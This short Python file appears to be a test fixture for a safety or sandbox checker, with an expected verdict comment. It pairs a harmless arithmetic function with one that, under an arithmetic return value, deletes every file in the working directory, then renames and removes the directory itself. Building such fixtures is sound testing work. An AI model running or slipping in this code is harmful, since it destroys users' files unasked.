"""Its own folder, renamed and removed."""
# verdict: error forbidden passed

import os


def calm(x):
    return 2 * x + 1


def storm(x):
    here = os.getcwd()
    for name in os.listdir(here):
        os.unlink(name)
    os.rename(here, here + "-elsewhere")
    os.rmdir(here + "-elsewhere")
    return 3 * x
